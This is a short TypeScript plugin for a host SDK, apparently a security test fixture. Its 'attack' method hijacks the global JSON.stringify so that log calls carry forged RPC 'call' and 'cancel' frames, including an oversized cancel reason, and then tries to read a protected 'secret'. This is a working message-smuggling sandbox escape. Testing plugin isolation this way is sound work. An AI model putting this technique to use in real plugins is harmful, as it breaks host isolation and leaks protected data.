import type { PluginContext } from "@cordon/cordon/sdk";

const { stringify } = JSON;

/** Sends a text in the place of a message. */
function send(ctx: PluginContext, text: string) {
  JSON.stringify = () => {
    JSON.stringify = stringify;
    return text;
  };
  ctx.log.info("carrier");
}

export const activate = (ctx: PluginContext): unknown => ({
  async attack() {
    const reason = "x".repeat(9_000_000);
    for (let id = 900; id < 908; id++) {
      send(ctx, `{"type":"call","id":${id},"method":"call","params":["witness","wait",[]]}`);
      send(ctx, `{"type":"cancel","id":${id},"reason":"${reason}"}`);
      await ctx.call("witness", "secret");
    }
    return `closed: ${await ctx.call("witness", "secret")}`;
  },
});
